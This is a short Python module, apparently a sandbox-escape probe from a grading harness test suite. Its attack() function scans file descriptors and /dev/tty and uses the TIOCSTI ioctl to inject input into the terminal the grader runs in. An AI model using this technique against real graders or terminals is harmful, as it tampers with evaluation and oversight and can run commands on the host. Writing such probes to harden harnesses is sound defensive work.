"""Types a command into the terminal that the grader was started from."""

import fcntl
import os

TIOCSTI, TCGETS = 0x5412, 0x5401


def attack(given):
    descriptors = list(range(64))
    try:
        descriptors.append(os.open("/dev/tty", os.O_RDWR))
    except OSError:
        pass
    for descriptor in descriptors:
        for request in (TIOCSTI, TCGETS):
            try:
                fcntl.ioctl(descriptor, request, b"#" + bytes(63))
                return f"a terminal at {descriptor}"
            except OSError:
                continue
    return None
